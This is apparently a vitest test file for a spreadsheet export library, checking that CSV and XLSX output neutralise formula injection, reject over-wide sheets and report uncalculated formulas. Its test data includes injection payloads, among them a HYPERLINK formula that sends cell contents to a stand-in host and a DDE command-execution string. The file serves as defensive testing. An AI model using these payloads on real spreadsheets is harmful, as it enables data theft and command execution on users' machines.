import { expect, test } from 'vitest'
import writeWorkbook from 'write-excel-file/node'
import { readWorkbook, spreadsheet, writeSheets } from './index.ts'
import { partsOf } from './workbook.factory.ts'

/** What a spreadsheet program would take for the beginning of a formula, a command or another cell. */
const live = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  ' =1',
  '\u200B=1',
  '|calc',
  '=HYPERLINK("http://evil.example?x="&A1,"照片")',
  "=cmd|'/C calc'!A0",
]
const quiet = ['李小龙', 'Иванов', "O'Neil", '1+1', 'a=b', '', '他说："好"，\n走了', 'x,y;z', '2014-09-12']

const sheet = {
  name: '个案',
  headings: ['姓名', 'Имя'],
  rows: [...live, ...quiet].map((cell) => [cell, 'x']),
}

test('in a CSV every live cell stands behind an apostrophe, every other as it is, with the mark that Excel needs', async () => {
  const { bytes, contentType } = await spreadsheet(sheet, 'csv')
  expect([contentType, bytes.subarray(0, 3)]).toEqual([
    'text/csv; charset=utf-8',
    Buffer.from([0xef, 0xbb, 0xbf]),
  ])
  const text = bytes.toString('utf8').slice(1)
  expect(text.startsWith('"姓名","Имя"\r\n')).toBe(true)
  for (const cell of live) expect(text).toContain(`\r\n"'${cell.replaceAll('"', '""')}","x"\r\n`)
  for (const cell of quiet) expect(text).toContain(`\r\n"${cell.replaceAll('"', '""')}","x"\r\n`)
  // No field begins outside quotes, so no separator in a cell makes another cell.
  expect(text.replaceAll(/"(?:[^"]|"")*"/gu, '').replaceAll(/[,\r\n]/gu, '')).toBe('')
})

test('in a workbook every cell is typed as text and nothing anywhere is a formula', async () => {
  const { bytes } = await spreadsheet(sheet, 'xlsx')
  const parts = partsOf(bytes)
  const cells = parts.get('xl/worksheets/sheet1.xml') ?? ''
  const types = [...cells.matchAll(/<c [^>]*?(?:t="(\w+)")?[^>]*>/gu)].map(
    ([whole]) => /t="(\w+)"/u.exec(whole)?.[1],
  )
  expect(types.length).toBeGreaterThanOrEqual(2 * (live.length + quiet.length) - 2)
  // Only the empty cell has no type.
  expect(types.filter((type) => type !== 's' && type !== 'inlineStr')).toEqual([undefined])
  const everything = [...parts.values()].join('\n')
  expect(everything).not.toMatch(/<f[ >]|<\/f>|externalLink|hyperlink/u)
  const texts = parts.get('xl/sharedStrings.xml') ?? everything
  for (const cell of ['=1+1', '@SUM(A1)', '＝1+1', '李小龙', 'Иванов', '=HYPERLINK('])
    expect(texts).toContain(cell)
})

test('a sheet that is wider than any form is refused, not cut in silence', async () => {
  const wide = (columns: number) =>
    writeSheets([{ name: 'survey', rows: [Array.from({ length: columns }, (_, at) => `c${at}`)] }])
  const [sheetRead] = await readWorkbook(await wide(2000))
  expect(sheetRead?.rows[0]?.at(-1)).toBe('c1999')
  await expect(readWorkbook(await wide(2001))).rejects.toThrow('too-large')
})

test('a formula that was never calculated says nothing, and is named', async () => {
  const bytes = await writeWorkbook([[{ value: 'a' }, { type: 'Formula', value: 'B1&"x"' }]]).toBuffer()
  const [sheetRead] = await readWorkbook(bytes)
  expect(sheetRead?.rows).toEqual([['a', '']])
  expect(sheetRead?.deadFormulas).toEqual([{ row: 0, column: 1, formula: '=B1&"x"' }])
})
